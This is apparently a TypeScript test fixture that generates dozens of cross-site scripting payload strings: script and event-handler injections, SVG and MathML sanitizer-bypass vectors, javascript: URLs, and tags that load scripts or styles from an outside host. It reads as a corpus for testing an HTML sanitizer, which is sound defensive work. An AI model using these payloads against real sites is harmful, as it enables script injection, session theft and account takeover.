import { elsewhere, mark } from './mark.ts';

/** Elements that run a script, ask for something, or are read in another way the second time. */
export const tags: ((run: string, on: string) => string)[] = [
  (run) => `<script ${mark}>${run}</script>`,
  (run) => `<ScRiPt/${mark}>${run}//</sCrIpT >`,
  () => `<script ${mark} src=//${elsewhere}/x.js></script>`,
  (run, on) => `<img ${mark} src=x ${on}=${run}>`,
  (run, on) => `<img/${mark}/src='x'/${on}="${run}"//`,
  (run) => `<img ${mark} src=x:x onerror\n=\t"${run}"`,
  (run) => `<svg ${mark} onload=${run}>`,
  (run) => `<svg><script ${mark}>${run.replaceAll('(', '&#40;')}</script></svg>`,
  (run) => `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) =>
    `<svg ${mark}><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>x</text></a>`,
  (run) =>
    `<svg ${mark}><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x"/>`,
  (run) => `<svg ${mark}><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject>`,
  (run) =>
    `<math ${mark}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) =>
    `<math><annotation-xml encoding="text/html" ${mark}><img src=x onerror=${run}></annotation-xml></math>`,
  (run) =>
    `<form ${mark}><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  (run) => `<svg></p><style ${mark}><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<noscript ${mark}><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template ${mark} shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<title ${mark}></title><img src=x onerror=${run}>`,
  (run) => `<textarea ${mark}></textarea><img src=x onerror=${run}>`,
  (run) => `<xmp ${mark}><p title="</xmp><svg/onload=${run}>">`,
  (run) => `<select ${mark}><option><style></option></select><img src=x onerror=${run}></style>`,
  (run) => `<iframe ${mark} srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  (run) => `<iframe ${mark} src="javascript:${run}"></iframe>`,
  (run) =>
    `<object ${mark} data="data:text/html,<script>${run}</script>"></object><embed src=javascript:${run}>`,
  (run, on) => `<details ${mark} open ${on}=${run}><summary>x`,
  (run) => `<input ${mark} autofocus onfocus=${run}>`,
  (run) => `<video ${mark}><source onerror=${run}></video><audio src=x onerror=${run}>`,
  (run) => `<body ${mark} onload=${run} background=//${elsewhere}/b><frameset onload=${run}>`,
  (run) =>
    `<marquee ${mark} onstart=${run}>x</marquee><div ${mark} style="animation-name:x" onanimationstart=${run}>`,
  (run) =>
    `<form ${mark} action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`,
  (run) => `<a ${mark} href="javascript:${run}" ping=//${elsewhere}>x</a><area href=javascript:${run}>`,
  () => `<base ${mark} href=//${elsewhere}/><link rel=stylesheet href=//${elsewhere}/s.css>`,
  () => `<meta ${mark} http-equiv=refresh content="0;url=https://${elsewhere}/">`,
  () => `<style ${mark}>@import'//${elsewhere}/s.css';*{background:url(//${elsewhere}/b)}</style>`,
  () => `<reader-poll ${mark} site=demo></reader-poll><slot ${mark}></slot>`,
  (run) => `<isindex ${mark} type=image src=1 onerror=${run}><image src=x onerror=${run}>`,
  (run) => `<!--><img ${mark} src=x onerror=${run}>--><![CDATA[><${mark}>]]>`,
  (run) => `<${mark} id=x tabindex=1 onfocus=${run} style=display:block;content-visibility:auto>#x`,
  (run, on) => `${mark}=1 autofocus tabindex=1 ${on}=${run} x`,
  (run) => `<p ${mark} popover id=y onbeforetoggle=${run}></p><button popovertarget=y>x</button>`,
];
